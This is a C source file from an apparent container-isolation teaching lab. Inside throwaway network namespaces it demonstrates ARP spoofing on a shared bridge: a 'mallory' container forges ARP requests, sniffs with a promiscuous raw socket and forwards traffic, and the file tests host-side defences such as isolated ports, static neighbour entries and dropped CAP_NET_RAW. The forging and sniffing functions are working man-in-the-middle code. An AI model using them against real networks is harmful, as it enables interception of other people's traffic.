/* SPDX-License-Identifier: MIT */
/*
 * spoof.c - break-out: a container reads what others say on its bridge
 *
 * Usage:  spoof
 *
 *	br0 --+-- port1 ---- alice    10.6.0.2   sends a secret to bob
 *	      |-- port2 ---- bob      10.6.0.3
 *	      `-- port3 ---- mallory  10.6.0.4   a container like any other
 *
 * A bridge sends a frame only where its address is, so that mallory hears
 * nothing.  But alice finds bob's MAC address by asking all (ARP), and believes
 * whoever says "10.6.0.3 is me".  Mallory says it, reads what comes, and
 * forwards it, so that nobody misses anything.
 *
 * Idea:   a namespace keeps a container out of the host's network; on the
 *         network that it shares with others it is a machine like any other
 * Calls:  socket(2) with AF_PACKET; RTM_NEWNEIGH; IFLA_BRPORT_ISOLATED
 * Needs:  CAP_NET_ADMIN; a user namespace gives it to an ordinary user
 * Read:   packet(7), arp(7); bridge(8), "isolated"
 * Test:   tests/graders/06-net-ns.c grades the exercise about this idea
 */
#include <net/ethernet.h>
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <netpacket/packet.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/random.h>

#include "child.h"
#include "file.h"
#include "rooms.h"
#include "userns.h"

enum {
	PORT = 6007,
	TIMES = 4,
	TIMEOUT_MS = 80,
	GREETINGS = 60,
	SECRET_BYTES = 16
};

static const char alice[] = "10.6.0.2";
static const char bob[] = "10.6.0.3";
static const char mallory[] = "10.6.0.4";

static const struct scene {
	const char *name;
	bool forge;    /* mallory says that he is bob */
	bool no_raw;   /* mallory has no CAP_NET_RAW */
	bool fixed;    /* alice knows bob's MAC address and asks nobody */
	bool isolated; /* the bridge keeps the ports of the two apart */
} scenes[] = {
	{ "mallory listens", false, false, false, false },
	{ "mallory says: I am bob", true, false, false, false },
	{ "alice has a fixed entry", true, false, true, false },
	{ "their ports are isolated", true, false, false, true },
	{ "mallory has no CAP_NET_RAW", true, true, false, false },
};

struct stage {
	struct room hub;
	struct room a;
	struct room b;
	struct room m;
};

/* ---- what the host can do about it ---------------------------------------------- */

/* An isolated port exchanges frames with ports that are not. */
static void isolate(int nl, const char *port)
{
	const uint8_t yes = 1;
	struct nl_request q;
	struct ifinfomsg *link = nl_begin(&q, RTM_SETLINK, 0, sizeof(*link));
	struct nlattr *nest;

	link->ifi_family = AF_BRIDGE;
	link->ifi_index = find_link(nl, port).index;
	nest = nl_nest(&q, IFLA_PROTINFO);
	nl_put(&q, IFLA_BRPORT_ISOLATED, &yes, sizeof(yes));
	nl_nest_end(&q, nest);
	tell(nl, &q, "isolate", port);
}

/* A permanent entry is not changed by what comes in. */
static void fix_neighbour(int nl, const char *text,
			  const unsigned char mac[MAC_BYTES])
{
	const uint32_t number = address(text);
	struct nl_request q;
	struct ndmsg *body = nl_begin(
		&q, RTM_NEWNEIGH, NLM_F_CREATE | NLM_F_REPLACE, sizeof(*body));

	body->ndm_family = AF_INET;
	body->ndm_ifindex = find_link(nl, "eth0").index;
	body->ndm_state = NUD_PERMANENT;
	nl_put(&q, NDA_DST, &number, sizeof(number));
	nl_put(&q, NDA_LLADDR, mac, MAC_BYTES);
	tell(nl, &q, "fix the neighbour", text);
}

/* ---- mallory ---------------------------------------------------------------------- */

/* Return: a descriptor, or -EPERM without CAP_NET_RAW. */
static int open_ear(int index)
{
	const struct packet_mreq all = { .mr_ifindex = index,
					 .mr_type = PACKET_MR_PROMISC };
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK,
			htons(ETH_P_ALL));

	if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all,
				 sizeof(all)) < 0)
		return -errno;
	return fd;
}

/* "Here is bob, and this is his MAC address", to everybody. */
static void forge(int ear, const struct wanted *eth0)
{
	const struct sockaddr_ll to = { .sll_family = AF_PACKET,
					.sll_ifindex = eth0->index };
	const uint32_t number = address(bob);
	struct {
		struct ether_header header;
		struct ether_arp arp;
	} frame = {
		.header.ether_type = htons(ETH_P_ARP),
		.arp.arp_hrd = htons(ARPHRD_ETHER),
		.arp.arp_pro = htons(ETH_P_IP),
		.arp.arp_hln = MAC_BYTES,
		.arp.arp_pln = sizeof(number),
		.arp.arp_op = htons(ARPOP_REQUEST),
	};

	memset(frame.header.ether_dhost, 0xff, MAC_BYTES);
	memcpy(frame.header.ether_shost, eth0->mac, MAC_BYTES);
	memcpy(frame.arp.arp_sha, eth0->mac, MAC_BYTES);
	memcpy(frame.arp.arp_spa, &number, sizeof(number));
	memcpy(frame.arp.arp_tpa, &number, sizeof(number));
	if (sendto(ear, &frame, sizeof(frame), 0, (const struct sockaddr *)&to,
		   sizeof(to)) < 0)
		die(-errno, "mallory cannot send");
}

/* As mallory, who is root in there. */
static int be_mallory(const struct scene *scene, const struct stage *stage)
{
	struct wanted eth0 = find_link(stage->m.nl, "eth0");
	int ear;

	room_enter(&stage->m);
	if (file_write_at(AT_FDCWD, "/proc/sys/net/ipv4/ip_forward", "1") < 0)
		die(0, "mallory cannot forward");
	if (scene->no_raw)
		drop_net_raw();
	ear = open_ear(eth0.index);
	if (ear >= 0 && scene->forge)
		forge(ear, &eth0);
	return ear;
}

/* ---- the play --------------------------------------------------------------------- */

static bool receives(int fd, const char secret[SECRET_BYTES])
{
	char frame[2048];
	ssize_t n;

	while ((n = recv(fd, frame, sizeof(frame), MSG_DONTWAIT)) > 0)
		if (memmem(frame, (size_t)n, secret, SECRET_BYTES))
			return true;
	return false;
}

/*
 * They have spoken before: alice knows where bob is, and the bridge behind which
 * ports they are.  Frames for an address that it has not learned go to all.
 * The first ones may be lost, as a port takes a moment to open.
 */
static void greet(int from, const char *to_whom, int to)
{
	struct pollfd wait = { .fd = to, .events = POLLIN };
	char byte = 0;

	for (int i = 0; i < GREETINGS; i++) {
		(void)send_to(from, to_whom, PORT, &byte, 1);
		if (poll(&wait, 1, TIMEOUT_MS) == 1 && recv(to, &byte, 1, 0))
			return;
	}
	die(0, "%s cannot be reached", to_whom);
}

static void make_stage(const struct scene *scene, struct stage *stage)
{
	stage->a = room_make();
	stage->b = room_make();
	stage->m = room_make();
	stage->hub = room_make();
	make_bridge(stage->hub.nl, "br0");
	set_up(stage->hub.nl, "br0");
	plug(&stage->hub, &stage->a, "port1", alice);
	plug(&stage->hub, &stage->b, "port2", bob);
	plug(&stage->hub, &stage->m, "port3", mallory);
	if (scene->isolated) {
		isolate(stage->hub.nl, "port1");
		isolate(stage->hub.nl, "port3");
	}
	if (scene->fixed)
		fix_neighbour(stage->a.nl, bob,
			      find_link(stage->b.nl, "eth0").mac);
}

static noreturn void play(const struct scene *scene)
{
	char secret[SECRET_BYTES];
	bool arrived = false;
	bool read = false;
	struct stage stage;
	int ear;
	int in;
	int out;

	if (getrandom(secret, sizeof(secret), 0) < 0)
		die(-errno, "cannot make a secret");
	make_stage(scene, &stage);
	room_enter(&stage.b);
	in = udp_at(bob, PORT);
	room_enter(&stage.a);
	out = udp_at(alice, PORT);
	greet(out, bob, in);
	greet(in, alice, out);

	ear = be_mallory(scene, &stage);
	for (int i = 0; i < TIMES && !(arrived && read); i++) {
		struct pollfd wait = { .fd = ear, .events = POLLIN };

		(void)send_to(out, bob, PORT, secret, sizeof(secret));
		(void)poll(&wait, 1, TIMEOUT_MS);
		read |= ear >= 0 && receives(ear, secret);
		arrived |= receives(in, secret);
	}
	printf("%-28s %-12s %s\n", scene->name, arrived ? "yes" : "no",
	       ear < 0 ? strerror(-ear)
	       : read  ? "yes"
		       : "no");
	(void)fflush(stdout);
	_exit(KIT_OK);
}

int main(int argc, char *argv[])
{
	int r;

	if (argc > 1) {
		fprintf(stderr, "usage: %s\n", argv[0]);
		return KIT_USAGE;
	}
	r = userns_become_root();
	if (r < 0)
		die_hint(r, "try: isolab doctor", "cannot get privilege");
	printf("%-28s %-12s %s\n", "", "bob gets it", "mallory reads it");
	(void)fflush(stdout);
	for (size_t i = 0; i < sizeof(scenes) / sizeof(scenes[0]); i++) {
		pid_t child = fork_tied();

		if (child == 0)
			play(&scenes[i]);
		if (child_wait(child) != 0)
			return KIT_FAILED;
	}
	return KIT_OK;
}
